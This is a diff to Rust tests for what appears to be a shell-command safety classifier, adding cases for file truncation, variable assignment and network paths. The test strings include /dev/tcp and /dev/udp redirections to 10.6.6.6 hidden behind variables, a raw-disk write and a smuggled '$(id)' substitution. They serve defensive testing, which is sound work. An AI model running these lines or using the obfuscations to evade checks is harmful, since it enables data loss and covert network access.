@@ -300,7 +300,11 @@ fn redirections_count_for_what_they_write() {
         (Destructive, "cat x > /dev/./sda"),
         (Opaque, "cat x > /dev/tcp/h/1"),
         (Write, "for i in 1; do ls; done > f"),
-        (Write, "> f"),
+        (Destructive, "> f"),
+        (Destructive, ": >| f"),
+        (Destructive, "echo > f"),
+        (Write, ">> f"),
+        (Write, "echo x > f"),
     ]);
 }
 
@@ -314,7 +318,9 @@ fn nothing_unknown_hides_behind_something_known() {
         (Opaque, "test $x"),
         (Read, "test -f \"$x\""),
         (Read, "[ -n \"$x\" ] && ls"),
-        (Opaque, "printf -v x y"),
+        (Opaque, "printf -v 'x[$(id)]' y"),
+        (Opaque, "printf -v PATH y"),
+        (Read, "printf -v x y"),
         (Opaque, "read PATH"),
         (Read, "read -r x"),
         (Opaque, "unset PATH"),
@@ -343,6 +349,21 @@ fn every_reason_lies_inside_the_text() {
             assert!(text.get(reason.span.clone()).is_some(), "{text}: {reason:?}");
         }
     }
+}
+
+#[test]
+fn a_network_name_that_a_variable_brings_is_still_one() {
+    let class = |text: &str| classify(text, Language::Sh, &TABLES).class;
+    for text in [
+        "x=/dev/tcp/10.6.6.6/80; cat < \"$x\"",
+        "x=/dev/t; y=cp/10.6.6.6/80; cat < $x$y",
+        "for f in /dev/udp/10.6.6.6/53; do echo hello > \"$f\"; done",
+        "cat < \"$(echo /dev/tcp/10.6.6.6/80)\"",
+    ] {
+        assert_eq!(class(text), Opaque, "{text}");
+    }
+    assert_eq!(class("for f in /var/log/*.log; do wc -l < \"$f\"; done"), Read);
+    assert_eq!(class("echo x > \"$HOME/note\""), Write);
 }
 
 proptest::proptest! {
